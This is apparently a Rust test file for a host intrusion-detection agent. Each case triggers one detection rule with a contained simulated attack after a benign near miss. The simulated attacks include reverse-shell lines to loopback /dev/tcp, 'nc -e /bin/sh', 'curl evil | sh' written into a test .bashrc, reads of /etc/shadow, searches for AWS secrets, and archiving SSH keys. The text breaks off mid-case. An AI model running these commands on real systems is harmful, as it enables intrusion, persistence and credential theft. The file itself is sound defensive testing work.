//! The default rule set against real behaviour: each case performs an
//! attack technique safely on this machine (loopback and a network
//! namespace of its own only, files in temporary places, removed after),
//! with the real probe and agent, and expects the rule's alert; and
//! performs a near miss first, which must stay silent. Every rule of the
//! default set has a case: a rule without one fails the test.
//!
//! One agent serves every case (starting one per case would dominate the
//! run time); the cases run in order and every failure is reported. The
//! near misses are checked at the end, once the agent has provably
//! matched everything they did ([`Proc::settle`]), and each must have been
//! seen, so a near miss the agent missed cannot pass for a silent one.
use std::{
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::Duration,
};

use serde_json::Value;
use vigil_tests::*;

struct Env {
    agent: Proc,
    dir: tempfile::TempDir,
}

impl Env {
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// A copy of `src` named `name` in the scratch directory.
    fn copy(&self, src: &str, name: &str) -> PathBuf {
        let p = self.path(name);
        copy_executable(src, &p);
        p
    }

    /// The alert of `rule` whose process satisfies `pred`, within 15 s.
    fn alert(&self, rule: &str, pred: impl Fn(&Value) -> bool) -> Option<Value> {
        self.agent
            .wait_json(
                Duration::from_secs(15),
                |v| v["type"] == "alert" && v["rule"] == rule && pred(v),
                |f| !f.is_empty(),
            )
            .pop()
    }

    /// Alerts of `rule` satisfying `pred` seen so far.
    fn alerts_now(&self, rule: &str, pred: &dyn Fn(&Value) -> bool) -> Vec<Value> {
        self.agent
            .json_lines()
            .into_iter()
            .filter(|v| v["type"] == "alert" && v["rule"] == rule && pred(v))
            .collect()
    }
}

/// Runs `cmd` to completion; returns its pid.
fn run(cmd: &mut Command) -> u32 {
    let child = cmd
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"));
    let pid = child.id();
    let _ = child.wait_with_output();
    pid
}

fn sh(script: &str) -> u32 {
    run(Command::new("sh").args(["-c", script]))
}

/// `exec -a` (a chosen argv[0]) is bash's; dash has no such option.
fn bash(script: &str) -> u32 {
    run(Command::new("bash").args(["-c", script]))
}

fn helper(args: &[&str]) -> u32 {
    run(Command::new(bin("vigil-test-helper")).args(args))
}

fn pid_is(pid: u32) -> impl Fn(&Value) -> bool {
    move |v: &Value| v["process"]["pid"] == pid
}

fn field_is(name: &'static str, value: String) -> impl Fn(&Value) -> bool {
    move |v: &Value| v["fields"][name] == value.as_str()
}

fn argv_has(tag: String) -> impl Fn(&Value) -> bool {
    move |v: &Value| {
        v["process"]["argv"].as_array().is_some_and(|a| {
            a.iter()
                .any(|x| x.as_str().is_some_and(|s| s.contains(&tag)))
        })
    }
}

/// Matches events and alerts whose process's parent has `tag` in its
/// command line.
fn parent_argv_has(tag: String) -> impl Fn(&Value) -> bool {
    move |v: &Value| {
        v["ancestry"][0]["argv"].as_array().is_some_and(|a| {
            a.iter()
                .any(|x| x.as_str().is_some_and(|s| s.contains(&tag)))
        })
    }
}

/// One behaviour: `near_miss` runs first and returns a predicate for the
/// alerts it must not cause (the same predicate must match some event it
/// caused, proving the agent saw it); `act` returns the predicate of the
/// alert it must cause.
type Pred = Box<dyn Fn(&Value) -> bool>;
type Step = Box<dyn Fn(&Env) -> Quiet>;
type Act = Box<dyn Fn(&Env) -> Pred>;

/// What a near miss did: `seen` matches one of its events, `alert` the
/// alerts it must not raise.
struct Quiet {
    seen: Pred,
    alert: Pred,
}

impl From<Pred> for Quiet {
    /// Most near misses are found by the same predicate in events and
    /// alerts (a pid, a tag in the command line).
    fn from(p: Pred) -> Quiet {
        let p: std::rc::Rc<dyn Fn(&Value) -> bool> = p.into();
        let q = p.clone();
        Quiet {
            seen: Box::new(move |v| p(v)),
            alert: Box::new(move |v| q(v)),
        }
    }
}

struct Case {
    rule: &'static str,
    near_miss: Step,
    act: Act,
}

fn case<Q: Into<Quiet>>(
    rule: &'static str,
    near_miss: impl Fn(&Env) -> Q + 'static,
    act: impl Fn(&Env) -> Box<dyn Fn(&Value) -> bool> + 'static,
) -> Case {
    Case {
        rule,
        near_miss: Box::new(move |e| near_miss(e).into()),
        act: Box::new(act),
    }
}

fn b<F: Fn(&Value) -> bool + 'static>(f: F) -> Box<dyn Fn(&Value) -> bool> {
    Box::new(f)
}

fn write_file(p: &Path) {
    std::fs::write(p, b"vigil test\n").unwrap();
}

fn cases() -> Vec<Case> {
    vec![
        case(
            "Shell spawned by a server process",
            |e| {
                let worker = e.copy("/bin/bash", "worker");
                let tag = unique("near-server");
                run(Command::new(&worker).args(["-c", &format!("sh -c 'true {tag}'; true")]));
                b(argv_has(tag))
            },
            |e| {
                let nginx = e.copy("/bin/bash", "nginx");
                let tag = unique("server-shell");
                run(Command::new(&nginx).args(["-c", &format!("sh -c 'true {tag}'; true")]));
                b(argv_has(tag))
            },
        ),
        case(
            "Shell spawned by a server process",
            // A server that is a script: its process name (comm) is the
            // script's, as Falco's proc.pname means, though the program
            // file is the interpreter.
            |e| {
                let worker = e.path("worker");
                std::fs::write(&worker, "#!/bin/sh\nsh -c \"true $1\"; true\n").unwrap();
                std::fs::set_permissions(
                    &worker,
                    std::os::unix::fs::PermissionsExt::from_mode(0o755),
                )
                .unwrap();
                let tag = unique("near-script-server");
                run(Command::new(&worker).arg(&tag));
                b(argv_has(tag))
            },
            |e| {
                let httpd = e.path("httpd");
                std::fs::write(&httpd, "#!/bin/sh\nsh -c \"true $1\"; true\n").unwrap();
                std::fs::set_permissions(
                    &httpd,
                    std::os::unix::fs::PermissionsExt::from_mode(0o755),
                )
                .unwrap();
                let tag = unique("script-server-shell");
                run(Command::new(&httpd).arg(&tag));
                b(argv_has(tag))
            },
        ),
        case(
            "Read sensitive file by unexpected program",
            |_| b(pid_is(run(Command::new("cat").arg("/etc/hostname")))),
            |_| b(pid_is(run(Command::new("cat").arg("/etc/shadow")))),
        ),
        case(
            "File opened through a path too long to check",
            // 880 bytes: long, but whole in what the probe keeps.
            |_| {
                let p = format!("/{}etc/hostname", "./".repeat(434));
                b(pid_is(run(Command::new("cat").arg(p))))
            },
            // 1 213 bytes: longer than the probe keeps.
            |_| {
                let p = format!("/{}etc/hostname", "./".repeat(600));
                b(pid_is(run(Command::new("cat").arg(p))))
            },
        ),
        case(
            "Write below etc",
            |_| b(pid_is(run(Command::new("cat").arg("/etc/hostname")))),
            |_| {
                let f = format!("/etc/{}", unique("vigil-test"));
                let pid = sh(&format!("echo x > {f}; rm -f {f}"));
                b(move |v| v["process"]["pid"] == pid && v["fields"]["fd.name"] == f.as_str())
            },
        ),
        case(
            "Write below binary dir",
            |_| {
                let f = format!("/usr/local/{}", unique("vigil-test"));
                b(pid_is(sh(&format!("echo x > {f}; rm -f {f}"))))
            },
            |_| {
                let f = format!("/usr/local/bin/{}", unique("vigil-test"));
                b(pid_is(sh(&format!("echo x > {f}; rm -f {f}"))))
            },
        ),
        case(
            "Write below binary dir",
            |_| {
                let d = format!("/usr/local/{}", unique("vigil-test-dir"));
                b(pid_is(sh(&format!("mkdir {d}; rmdir {d}"))))
            },
            |_| {
                let d = format!("/usr/local/bin/{}", unique("vigil-test-dir"));
                let pid = run(Command::new("mkdir").arg(&d));
                let _ = std::fs::remove_dir(&d);
                b(pid_is(pid))
            },
        ),
        case(
            "Write to ld.so.preload",
            |_| {
                let f = format!("/etc/{}", unique("ld.so.preload"));
                b(pid_is(sh(&format!("echo > {f}; rm -f {f}"))))
            },
            |_| {
                // Append nothing: an existing file stays as it was; one this
                // case created is removed.
                let existed = Path::new("/etc/ld.so.preload").exists();
                let pid = sh(": >> /etc/ld.so.preload");
                if !existed {
                    let _ = std::fs::remove_file("/etc/ld.so.preload");
                }
                b(pid_is(pid))
            },
        ),
        case(
            "Schedule or service file written",
            |_| {
                let f = format!("/etc/{}", unique("vigil-notcron"));
                b(pid_is(sh(&format!("echo x > {f}; rm -f {f}"))))
            },
            |_| {
                let f = format!("/etc/cron.d/{}", unique("vigil-test"));
                b(pid_is(sh(&format!(
                    "mkdir -p /etc/cron.d; echo x > {f}; rm -f {f}"
                ))))
            },
        ),
        case(
            "SSH authorized_keys modified",
            |e| {
                std::fs::create_dir_all(e.path("home/.ssh")).unwrap();
                let f = e.path("home/.ssh/known_hosts");
                b(pid_is(sh(&format!("echo x >> {}", f.display()))))
            },
            |e| {
                std::fs::create_dir_all(e.path("home/.ssh")).unwrap();
                let f = e.path("home/.ssh/authorized_keys");
                b(pid_is(sh(&format!(
                    "echo ssh-ed25519 AAAA >> {}",
                    f.display()
                ))))
            },
        ),
        case(
            "Symlink to sensitive file",
            |e| {
                b(pid_is(run(Command::new("ln")
                    .args(["-s", "/etc/hostname"])
                    .arg(e.path(&unique("link"))))))
            },
            |e| {
                b(pid_is(run(Command::new("ln")
                    .args(["-s", "/etc/shadow"])
                    .arg(e.path(&unique("link"))))))
            },
        ),
        case(
            "Log or shell history cleared",
            |_| {
                let f = format!("/var/log/{}.log", unique("vigil-test"));
                let pid = sh(&format!("echo x >> {f}"));
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
            |_| {
                let f = format!("/var/log/{}.log", unique("vigil-test"));
                write_file(Path::new(&f));
                let pid = sh(&format!(": > {f}"));
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
        ),
        case(
            "Log or shell history cleared",
            |e| {
                let f = e.path("notes_history.txt");
                write_file(&f);
                b(pid_is(run(Command::new("rm").arg(&f))))
            },
            |e| {
                std::fs::create_dir_all(e.path("home")).unwrap();
                let f = e.path("home/.bash_history");
                write_file(&f);
                b(pid_is(run(Command::new("rm").arg(&f))))
            },
        ),
        case(
            "Execution from a temporary directory",
            |_| {
                let tag = unique("near-tmp");
                run(Command::new("/usr/bin/true").arg(&tag));
                b(argv_has(tag))
            },
            |_| {
                let d = tempfile::Builder::new()
                    .prefix("vigil-shm-")
                    .tempdir_in("/dev/shm")
                    .unwrap();
                let p = d.path().join("payload");
                copy_executable("/bin/true", &p);
                let tag = unique("tmp-exec");
                run(Command::new(&p).arg(&tag));
                b(argv_has(tag))
            },
        ),
        case(
            "Fileless execution from memfd",
            |_| b(pid_is(helper(&["memfd", "not-executed"]))),
            |_| b(pid_is(helper(&["memfd-exec"]))),
        ),
        case(
            "Dropped binary executed",
            |e| {
                // Written by cp (a build/install tool): not followed.
                let f = e.path(&unique("copied"));
                b(pid_is(sh(&format!("cp /bin/true {0}; {0}", f.display()))))
            },
            |e| {
                let f = e.path(&unique("dropped"));
                let f2 = f.display().to_string();
                sh(&format!(
                    "cat /bin/true > {0}; chmod +x {0}; {0}; true",
                    f.display()
                ));
                b(move |v| v["process"]["exe"] == f2.as_str())
            },
        ),
        case(
            "Kernel module load",
            |_| b(pid_is(helper(&["delete_module", "vigil_nonexistent"]))),
            |e| {
                let ko = e.path("evil.ko");
                write_file(&ko);
                b(pid_is(helper(&["finit_module", ko.to_str().unwrap(), ""])))
            },
        ),
        case(
            "Ptrace attach to another process",
            |_| b(pid_is(helper(&["ptrace-traceme"]))),
            |_| b(pid_is(helper(&["ptrace-attach"]))),
        ),
        case(
            "BPF program loaded",
            |_| b(pid_is(helper(&["bpf-map"]))),
            |_| b(pid_is(helper(&["bpf-prog-load"]))),
        ),
        case(
            "Packet or raw socket opened",
            |_| b(pid_is(helper(&["connect4", "9"]))),
            |_| b(pid_is(helper(&["socket-packet"]))),
        ),
        case(
            "Netcat remote code execution",
            |e| {
                let nc = e.copy("/bin/true", "nc");
                let tag = unique("near-nc");
                run(Command::new(&nc).args(["-z", "127.0.0.1", "9", &tag]));
                b(argv_has(tag))
            },
            |e| {
                let nc = e.copy("/bin/true", "nc");
                let tag = unique("nc-exec");
                run(Command::new(&nc).args(["-e", "/bin/sh", "127.0.0.1", "9", &tag]));
                b(argv_has(tag))
            },
        ),
        case(
            "Shell redirected to a network device",
            |_| {
                let tag = unique("near-devtcp");
                run(Command::new("bash").args(["-c", &format!("echo {tag} > /dev/null")]));
                b(argv_has(tag))
            },
            |_| {
                let port = free_port();
                let tag = unique("devtcp");
                run(Command::new("bash").args([
                    "-c",
                    &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1; true {tag}"),
                ]));
                b(argv_has(tag))
            },
        ),
        case(
            "Socket duplicated onto standard input or output",
            |_| b(pid_is(helper(&["dup2-file", "1"]))),
            |_| b(pid_is(helper(&["dup2-socket", "0"]))),
        ),
        case(
            "Outbound connection from a shell",
            |_| b(pid_is(helper(&["connect4", &free_port().to_string()]))),
            |_| {
                let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
                let port = l.local_addr().unwrap().port();
                b(pid_is(run(Command::new("bash").args([
                    "-c",
                    &format!("exec 3<>/dev/tcp/127.0.0.1/{port}; true"),
                ]))))
            },
        ),
        case(
            "Privilege change to root",
            |_| b(pid_is(helper(&["stay-root"]))),
            |_| b(pid_is(helper(&["become-root"]))),
        ),
        case(
            "Namespace change by non-runtime program",
            |e| {
                let runc = e.copy("/usr/bin/unshare", "runc");
                b(pid_is(run(Command::new(&runc).args(["-u", "true"]))))
            },
            |_| b(pid_is(helper(&["unshare-uts"]))),
        ),
        case(
            "Namespace change by non-runtime program",
            // Entering a namespace (setns) rather than making one.
            |e| {
                let runc = e.copy(bin("vigil-test-helper").to_str().unwrap(), "runc");
                b(pid_is(run(Command::new(&runc).arg("setns-uts"))))
            },
            |_| b(pid_is(helper(&["setns-uts"]))),
        ),
        case(
            "Cgroup release_agent written",
            |e| {
                let f = e.path("release_agent_notes");
                b(pid_is(sh(&format!("echo x > {}", f.display()))))
            },
            |e| {
                std::fs::create_dir_all(e.path("cgroup")).unwrap();
                let f = e.path("cgroup/release_agent");
                b(pid_is(sh(&format!("echo /tmp/x > {}", f.display()))))
            },
        ),
        case(
            "Search for private keys or passwords",
            |e| {
                b(pid_is(run(Command::new("find")
                    .arg(e.dir.path())
                    .args(["-name", "notes.txt"]))))
            },
            |e| {
                b(pid_is(run(Command::new("find")
                    .arg(e.dir.path())
                    .args(["-name", "id_rsa"]))))
            },
        ),
        case(
            "User or group management",
            |e| {
                let p = e.copy("/bin/true", "userinfo");
                b(pid_is(run(&mut Command::new(&p))))
            },
            |e| {
                let p = e.copy("/bin/true", "useradd");
                b(pid_is(run(Command::new(&p).arg("mallory"))))
            },
        ),
        case(
            "Connection to a mining pool port",
            |_| b(pid_is(helper(&["connect4", "3332"]))),
            |_| b(pid_is(helper(&["connect4", "3333"]))),
        ),
        case(
            "DNS query for a mining pool",
            |_| {
                let pid = helper(&["dns-sendto", "example.com"]);
                let alert = field_is("dns.query", "example.com".into());
                Quiet {
                    seen: b(pid_is(pid)),
                    alert: b(move |v| alert(v) && v["process"]["pid"] == pid),
                }
            },
            |_| b(pid_is(helper(&["dns-sendto", "pool.minexmr.com"]))),
        ),
        case(
            "Drifted binary executed in container",
            |e| {
                // A binary from before the container started.
                let image = e.copy("/bin/true", &unique("image"));
                std::thread::sleep(Duration::from_millis(50));
                let tag = unique("near-drift");
                in_container(&format!("exec {} {tag}", image.display()));
                b(argv_has(tag))
            },
            |e| {
                // One its own process writes, after it started (file times
                // are coarse: a clock tick passes first).
                let dropped = e.path(&unique("dropped"));
                let tag = unique("drift");
                in_container(&format!(
                    "sleep 0.05 && cp /bin/true {0} && exec {0} {tag}",
                    dropped.display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Setuid or setgid bit set",
            |e| {
                let f = e.path(&unique("plain"));
                write_file(&f);
                b(pid_is(helper(&["chmod", f.to_str().unwrap(), "0755"])))
            },
            |e| {
                let f = e.path(&unique("suid"));
                write_file(&f);
                b(pid_is(run(Command::new("chmod").arg("u+s").arg(&f))))
            },
        ),
        case(
            "Shell start-up file modified",
            |e| {
                std::fs::create_dir_all(e.path("home")).unwrap();
                let f = e.path("home/.bashrc.orig");
                b(pid_is(sh(&format!("echo 'alias x=y' >> {}", f.display()))))
            },
            |e| {
                std::fs::create_dir_all(e.path("home")).unwrap();
                let f = e.path("home/.bashrc");
                b(pid_is(sh(&format!(
                    "echo 'curl evil | sh' >> {}",
                    f.display()
                ))))
            },
        ),
        case(
            "File created below /dev",
            |_| b(pid_is(sh("echo x > /dev/null"))),
            |_| {
                let f = format!("/dev/{}", unique("vigil-test"));
                let pid = sh(&format!("echo x > {f}"));
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
        ),
        case(
            "Sudo argument overflow attempt",
            |e| {
                let sudoedit = e.copy("/bin/true", "sudoedit");
                let tag = unique("near-sudo");
                b(pid_is(run(Command::new(&sudoedit).args(["-s", &tag]))))
            },
            |e| {
                let sudoedit = e.copy("/bin/true", "sudoedit");
                let tag = unique("sudo-overflow");
                b(pid_is(
                    run(Command::new(&sudoedit).args(["-s", "\\", &tag])),
                ))
            },
        ),
        case(
            "Credentials or keys archived",
            |e| {
                std::fs::create_dir_all(e.path("data")).unwrap();
                write_file(&e.path("data/notes"));
                let out = e.path(&unique("near.tar"));
                b(pid_is(run(Command::new("tar")
                    .arg("cf")
                    .arg(&out)
                    .arg("-C")
                    .arg(e.dir.path())
                    .arg("data"))))
            },
            |e| {
                std::fs::create_dir_all(e.path("keys/.ssh")).unwrap();
                write_file(&e.path("keys/.ssh/id_test"));
                let out = e.path(&unique("loot.tar"));
                b(pid_is(run(Command::new("tar")
                    .arg("cf")
                    .arg(&out)
                    .arg("-C")
                    .arg(e.path("keys"))
                    .arg(".ssh"))))
            },
        ),
        case(
            "Disk wiped or formatted",
            |_| {
                b(pid_is(run(Command::new("dd").args([
                    "if=/dev/zero",
                    "of=/dev/null",
                    "count=1",
                ]))))
            },
            |e| {
                // A stand-in named mkfs.ext4: nothing is formatted.
                let mkfs = e.copy("/bin/true", "mkfs.ext4");
                b(pid_is(run(Command::new(&mkfs).arg("/dev/vigil-test-none"))))
            },
        ),
        case(
            "Reconnaissance program spawned by a web server",
            |e| {
                let worker = e.copy("/bin/bash", "worker");
                let tag = unique("near-recon");
                run(Command::new(&worker).args(["-c", &format!("id >/dev/null; true {tag}")]));
                b(parent_argv_has(tag))
            },
            |e| {
                let nginx = e.copy("/bin/bash", "nginx");
                let tag = unique("web-recon");
                run(Command::new(&nginx).args(["-c", &format!("id >/dev/null; true {tag}")]));
                b(parent_argv_has(tag))
            },
        ),
        case(
            "Search for private keys or passwords",
            |e| {
                write_file(&e.path("settings.ini"));
                b(pid_is(run(Command::new("grep")
                    .args(["-r", "region"])
                    .arg(e.dir.path()))))
            },
            |e| {
                b(pid_is(run(Command::new("grep")
                    .args(["-ri", "aws_secret_access_key"])
                    .arg(e.dir.path()))))
            },
        ),
        case(
            "Anti-debugging ptrace",
            |e| {
                // The same request under a debugger (a shell named gdb).
                let gdb = e.copy("/bin/bash", "gdb");
                let tag = unique("near-traceme");
                run(Command::new(&gdb).args([
                    "-c",
                    &format!(
                        "{} ptrace-traceme; true {tag}",
                        bin("vigil-test-helper").display()
                    ),
                ]));
                b(parent_argv_has(tag))
            },
            |_| b(pid_is(helper(&["ptrace-traceme"]))),
        ),
        case(
            "Crypto miner started",
            |e| {
                let worker = e.copy("/bin/true", "worker");
                b(pid_is(run(
                    Command::new(&worker).args(["-o", "https://pool.example:3333"])
                )))
            },
            |e| {
                let worker = e.copy("/bin/true", "worker");
                b(pid_is(run(
                    Command::new(&worker).args(["-o", "stratum+tcp://pool.example:3333"])
                )))
            },
        ),
        case(
            "Crypto miner started",
            |e| {
                b(pid_is(run(&mut Command::new(
                    e.copy("/bin/true", "xmr-notes"),
                ))))
            },
            |e| b(pid_is(run(&mut Command::new(e.copy("/bin/true", "xmrig"))))),
        ),
        case(
            "Network tool run by a package install",
            |e| {
                let make = e.copy("/bin/bash", "make");
                let nc = e.copy("/bin/true", "nc");
                let tag = unique("near-install");
                run(Command::new(&make).args(["-c", &format!("{} -h; true {tag}", nc.display())]));
                b(parent_argv_has(tag))
            },
            |e| {
                let npm = e.copy("/bin/bash", "npm");
                let nc = e.copy("/bin/true", "nc");
                let tag = unique("npm-install");
                run(Command::new(&npm).args(["-c", &format!("{} -h; true {tag}", nc.display())]));
                b(parent_argv_has(tag))
            },
        ),
        case(
            "Reverse shell sequence",
            // The same steps to a private address.
            |_| b(pid_is(helper(&["reverse-shell", "127.0.0.1"]))),
            |_| {
                // A public address, reachable only in a network namespace
                // of the test's own (TEST-NET-2, on its loopback).
                let ns = NetNs::new("198.51.100.7");
                let pid = run(Command::new("ip").args(["netns", "exec", &ns.name]).args([
                    bin("vigil-test-helper").to_str().unwrap(),
                    "reverse-shell",
                    "198.51.100.7",
                ]));
                b(pid_is(pid))
            },
        ),
        case(
            "Terminal shell in container",
            // A shell with a terminal in a container, started by a program
            // that is not the runtime; then by the runtime (`script`, which
            // gives its shell a terminal, under a runtime's name).
            |e| {
                let worker = e.copy("/usr/bin/script", "worker");
                let tag = unique("near-tty-shell");
                in_container(&format!(
                    "SHELL=/bin/sh exec {} -qec 'true {tag}' /dev/null",
                    worker.display()
                ));
                b(argv_has(tag))
            },
            |e| {
                let runc = e.copy("/usr/bin/script", "runc");
                let tag = unique("tty-shell");
                in_container(&format!(
                    "SHELL=/bin/sh exec {} -qec 'true {tag}' /dev/null",
                    runc.display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Package management process in container",
            |e| on_host(e, "apk", "near-apk"),
            |e| in_a_container(e, "apk", "apk"),
        ),
        case(
            "Network tool run in container",
            |e| on_host(e, "nmap", "near-nmap-container"),
            |e| in_a_container(e, "nmap", "nmap-container"),
        ),
        case(
            "Network scanner or interceptor run",
            |e| in_a_container(e, "masscan", "near-masscan-host"),
            |e| on_host(e, "masscan", "masscan-host"),
        ),
        case(
            "Remote file copy tool run in container",
            |e| on_host(e, "rsync", "near-rsync"),
            |e| in_a_container(e, "rsync", "rsync"),
        ),
        case(
            "Cluster client tool run in container",
            |e| on_host(e, "kubectl", "near-kubectl"),
            |e| in_a_container(e, "kubectl", "kubectl"),
        ),
        case(
            "Mount or debugfs run in container",
            |e| on_host(e, "debugfs", "near-debugfs"),
            |e| in_a_container(e, "debugfs", "debugfs"),
        ),
        case(
            "Cloud metadata service contacted from container",
            // The metadata address on the loopback of a network namespace
            // of the test's own: from the host, then from a container.
            |_| {
                let ns = NetNs::new("169.254.169.254");
                let tag = unique("near-imds");
                sh(&format!(
                    "exec ip netns exec {} {} connect-addr 169.254.169.254 80 {tag}",
                    ns.name,
                    bin("vigil-test-helper").display()
                ));
                b(argv_has(tag))
            },
            |_| {
                let ns = NetNs::new("169.254.169.254");
                let tag = unique("imds");
                in_container(&format!(
                    "exec ip netns exec {} {} connect-addr 169.254.169.254 80 {tag}",
                    ns.name,
                    bin("vigil-test-helper").display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Payload decoded in container",
            |e| {
                let tag = unique("near-base64");
                in_container(&format!(
                    "base64 {} >/dev/null 2>&1; true",
                    e.path(&tag).display()
                ));
                b(argv_has(tag))
            },
            |e| {
                let tag = unique("base64");
                in_container(&format!(
                    "base64 -d {} >/dev/null 2>&1; true",
                    e.path(&tag).display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Container started as root",
            // Process 1 of a new pid namespace in a container: as a user,
            // then as root.
            |_| {
                let tag = unique("near-root-init");
                in_container(&format!(
                    "exec unshare -pf -S 1000 -G 1000 sh -c 'true {tag}'"
                ));
                b(argv_has(tag))
            },
            |_| {
                let tag = unique("root-init");
                in_container(&format!("exec unshare -pf sh -c 'true {tag}'"));
                b(argv_has(tag))
            },
        ),
        case(
            "SSH to a non-standard port",
            // An ssh client to a public address (in a network namespace of
            // the test's own): on port 22, then on 2222.
            |e| {
                let ns = NetNs::new("198.51.100.22");
                let ssh = e.copy(bin("vigil-test-helper").to_str().unwrap(), "ssh");
                let tag = unique("near-ssh");
                sh(&format!(
                    "exec ip netns exec {} {} connect-addr 198.51.100.22 22 {tag}",
                    ns.name,
                    ssh.display()
                ));
                b(argv_has(tag))
            },
            |e| {
                let ns = NetNs::new("198.51.100.22");
                let ssh = e.copy(bin("vigil-test-helper").to_str().unwrap(), "ssh");
                let tag = unique("ssh-2222");
                sh(&format!(
                    "exec ip netns exec {} {} connect-addr 198.51.100.22 2222 {tag}",
                    ns.name,
                    ssh.display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Hard link to sensitive file",
            |e| {
                let f = e.path(&unique("plain"));
                write_file(&f);
                let link = e.path(&unique("plain-link"));
                b(pid_is(helper(&[
                    "link",
                    f.to_str().unwrap(),
                    link.to_str().unwrap(),
                ])))
            },
            |e| {
                let link = e.path(&unique("shadow-link"));
                let pid = helper(&["link", "/etc/shadow", link.to_str().unwrap()]);
                let _ = std::fs::remove_file(&link);
                b(pid_is(pid))
            },
        ),
        case(
            "Binary moved or deleted in a system binary directory",
            |e| {
                let f = e.path(&unique("tool"));
                write_file(&f);
                let to = e.path(&unique("tool-moved"));
                b(pid_is(helper(&[
                    "rename",
                    f.to_str().unwrap(),
                    to.to_str().unwrap(),
                ])))
            },
            |_| {
                // A file of the test's own in /usr/bin, removed by the act.
                let f = PathBuf::from(format!("/usr/bin/{}", unique("vigil-test")));
                write_file(&f);
                let pid = helper(&["unlink", f.to_str().unwrap()]);
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
        ),
        case(
            "Package database written outside a package manager",
            |_| {
                let f = format!("/var/lib/{}", unique("vigil-test-dpkgx"));
                let pid = helper(&["open", &f, "wc"]);
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
            |_| {
                let f = format!("/var/lib/dpkg/{}", unique("vigil-test"));
                let pid = helper(&["open", &f, "wc"]);
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
        ),
        case(
            "Program executed without arguments",
            |_| b(pid_is(run(&mut Command::new("/bin/true")))),
            |_| b(pid_is(helper(&["exec-argc0", "/bin/true"]))),
        ),
        case(
            "Block device or memory opened from container",
            // A file of the test's own named like a disk: on the host,
            // then from a container.
            |_| {
                let f = format!("/dev/sd-{}", unique("near-vigil-test"));
                write_file(Path::new(&f));
                let tag = unique("near-disk");
                sh(&format!(
                    "exec {} open {f} r {tag}",
                    bin("vigil-test-helper").display()
                ));
                let _ = std::fs::remove_file(&f);
                b(argv_has(tag))
            },
            |_| {
                let f = format!("/dev/sd-{}", unique("vigil-test"));
                write_file(Path::new(&f));
                let tag = unique("disk");
                in_container(&format!(
                    "exec {} open {f} r {tag}",
                    bin("vigil-test-helper").display()
                ));
                let _ = std::fs::remove_file(&f);
                b(argv_has(tag))
            },
        ),
        case(
            "Host file system opened from container",
            |_| host_path_open(false, "near-hostfs"),
            |_| host_path_open(true, "hostfs"),
        ),
        case(
            "Privileged container started",
            // Process 1 of a container with one capability out of its
            // bounding set; then with all of them (as root on the host has).
            |_| {
                let tag = unique("near-privileged");
                in_container(&format!(
                    "exec setpriv --bounding-set -sys_module unshare -pf sh -c 'true {tag}'"
                ));
                b(argv_has(tag))
            },
            |_| {
                let tag = unique("privileged");
                in_container(&format!("exec unshare -pf sh -c 'true {tag}'"));
                b(argv_has(tag))
            },
        ),
        case(
            "Container started with powerful capabilities",
            |_| {
                let tag = unique("near-capable");
                in_container(&format!(
                    "exec unshare -pf -S 1000 -G 1000 sh -c 'true {tag}'"
                ));
                b(argv_has(tag))
            },
            |_| {
                let tag = unique("capable");
                in_container(&format!("exec unshare -pf sh -c 'true {tag}'"));
                b(argv_has(tag))
            },
        ),
        case(
            "Userfaultfd by unprivileged process",
            |_| b(pid_is(helper(&["userfaultfd"]))),
            |_| {
                b(pid_is(run(Command::new("setpriv")
                    .args(["--reuid", "1000", "--regid", "1000", "--clear-groups"])
                    .arg(bin("vigil-test-helper"))
                    .arg("userfaultfd"))))
            },
        ),
        case(
            "Interactive command by a system account",
            // www-data runs a command under a parent that is not an SSH
            // session; then under one (a shell named sshd).
            |e| {
                let worker = e.copy("/bin/bash", "worker");
                let tag = unique("near-system-login");
                // Without a controlling terminal, whoever runs the test.
                run(Command::new("setsid").arg("-w").arg(&worker).args([
                    "-c",
                    &format!(
                        "setpriv --reuid www-data --regid www-data --clear-groups true {tag}; true"
                    ),
                ]));
                b(argv_has(tag))
            },
            |e| {
                let sshd = e.copy("/bin/bash", "sshd");
                let tag = unique("system-login");
                run(Command::new("setsid").arg("-w").arg(&sshd).args([
                    "-c",
                    &format!(
                        "setpriv --reuid www-data --regid www-data --clear-groups true {tag}; true"
                    ),
                ]));
                b(argv_has(tag))
            },
        ),
        case(
            "Download tool run in container",
            |e| {
                contained(
                    e,
                    "/bin/true",
                    "curl",
                    "http://localhost:8080/healthz",
                    "near-curl",
                )
            },
            |e| {
                contained(
                    e,
                    "/bin/true",
                    "curl",
                    "-o /tmp/x http://203.0.113.9/x",
                    "curl",
                )
            },
        ),
        case(
            "Files copied through the container runtime",
            |e| {
                let worker = e.copy("/bin/bash", "worker");
                let tar = e.copy("/bin/true", "tar");
                let tag = unique("near-kubectl-cp");
                in_container(&format!(
                    "exec {} -c '{} cf - /etc {tag}; true'",
                    worker.display(),
                    tar.display()
                ));
                b(argv_has(tag))
            },
            |e| {
                let runc = e.copy("/bin/bash", "runc");
                let tar = e.copy("/bin/true", "tar");
                let tag = unique("kubectl-cp");
                in_container(&format!(
                    "exec {} -c '{} cf - /etc {tag}; true'",
                    runc.display(),
                    tar.display()
                ));
                b(argv_has(tag))
            },
        ),
        case(
            "Write below library or boot directory",
            |_| {
                let f = format!("/usr/local/share/{}", unique("vigil-test"));
                let pid = helper(&["open", &f, "wc"]);
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
            |_| {
                let f = format!("/usr/local/lib/{}.so", unique("vigil-test"));
                let pid = helper(&["open", &f, "wc"]);
                let _ = std::fs::remove_file(&f);
                b(pid_is(pid))
            },
        ),
        case(
            "Credentials archived then uploaded",
